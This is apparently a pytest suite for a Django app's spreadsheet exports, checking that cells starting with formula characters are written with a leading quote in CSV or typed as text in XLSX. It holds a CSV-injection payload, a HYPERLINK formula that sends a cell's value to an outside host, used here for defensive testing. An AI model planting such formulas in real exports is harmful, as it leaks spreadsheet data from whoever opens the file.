"""Every export a person may open in a spreadsheet keeps text as text (no CSV injection).

Each cell that begins with =, +, -, @, a tab or a carriage return is written with a leading
single quote in CSV (OWASP's advice) and typed as text in XLSX; numbers stay numbers.
"""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from d4sme.assessments.exports import result_csv
from d4sme.assessments.models import Instrument
from d4sme.casestudies.models import CaseStatus
from d4sme.monitoring import exports as monitoring_exports
from d4sme.monitoring import sdmx
from d4sme.monitoring.models import Framework
from d4sme.programmes.exports import export_csv_zip, export_xlsx
from d4sme.reports.tables import read_csv
from tests.assessments.conftest import random_answers, take
from tests.casestudies.conftest import make_case
from tests.programmes.conftest import make_programme

pytestmark = pytest.mark.django_db

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]


def payload(prefix: str) -> str:
    return f'{prefix}HYPERLINK("https://example.org/?leak="&A1,"Click")'


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def column(rows: list[list[str]], name: str) -> list[str]:
    index = rows[0].index(name)
    return [row[index] for row in rows[1:]]


def programmes_csv(text: str, world) -> list[str]:
    make_programme("kr-injected", name=text)
    archive = zipfile.ZipFile(io.BytesIO(export_csv_zip()))
    return column(csv_rows(archive.read("programmes.csv").decode()), "name")


def cases_csv(text: str, world, client) -> list[str]:
    make_case(world.user("sme_a"), text, status=CaseStatus.PUBLISHED)
    reply = client.get(reverse("casestudies:open-data", args=["csv"]))
    return column(csv_rows(reply.content.decode()), "title")


def assessment_csv(text: str, world) -> list[str]:
    version = Instrument.objects.get(pk="dma-sme").current_version()
    world.org_a.legal_name = text
    world.org_a.save()
    owner = world.user("sme_a")
    response = take(owner, world.org_a, version, random_answers(version.parsed, seed=1))
    return column(csv_rows(result_csv(response)), "organisation")


def sdmx_csv(text: str, world) -> list[str]:
    plan = Framework.objects.get(code="apec-smewg-2021-2024")
    indicator = plan.indicators.order_by("position").first()
    row = {
        "economy": "KR",
        "indicator": indicator.code,
        "disaggregation": "_T",
        "period": 2022,
        "value": 12,
        "flag": "",
        "unit": monitoring_exports._unit_code(indicator.unit),
        "comment": text,
    }
    written = sdmx.data_csv(monitoring_exports.structure_of(plan), [row])
    return column(csv_rows(written), "COMMENT")


CSV_EXPORTS = {
    "programmes": programmes_csv,
    "cases": cases_csv,
    "assessment results": assessment_csv,
    "sdmx": sdmx_csv,
}


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
@pytest.mark.parametrize("export", list(CSV_EXPORTS))
def test_csv_exports_write_formula_text_with_a_leading_quote(export, prefix, world, client):
    text = payload(prefix)
    extra = {"client": client} if export == "cases" else {}

    cells = CSV_EXPORTS[export](text, world, **extra)

    assert "'" + text in cells
    assert text not in cells


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_the_xlsx_export_types_formula_text_as_text(prefix, world):
    text = payload(prefix)
    make_programme("kr-injected", name=text, budget_amount=-5, budget_currency="KRW")

    sheet = load_workbook(io.BytesIO(export_xlsx()))["programmes"]

    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "kr-injected")
    name = row[header.index("name")]
    assert (name.value, name.data_type) == (text, "s")
    budget = row[header.index("budget_amount")]
    assert (budget.value, budget.data_type) == (-5, "n")


def test_numbers_stay_numbers_a_negative_one_included(world):
    plan = Framework.objects.get(code="apec-smewg-2021-2024")
    indicator = plan.indicators.order_by("position").first()
    row = {
        "economy": "KR",
        "indicator": indicator.code,
        "disaggregation": "_T",
        "period": 2022,
        "value": -5.5,
        "flag": "",
        "unit": monitoring_exports._unit_code(indicator.unit),
        "comment": "-3 firms left",
    }
    written = csv_rows(sdmx.data_csv(monitoring_exports.structure_of(plan), [row]))
    assert column(written, "OBS_VALUE") == ["-5.5"]
    assert column(written, "COMMENT") == ["'-3 firms left"]


def test_reading_a_neutralised_csv_gives_back_the_text_as_written(world):
    text = payload("=")
    make_programme("kr-injected", name=text)
    archive = zipfile.ZipFile(io.BytesIO(export_csv_zip()))
    names = [row["name"] for row in read_csv(archive.read("programmes.csv"))]
    assert text in names
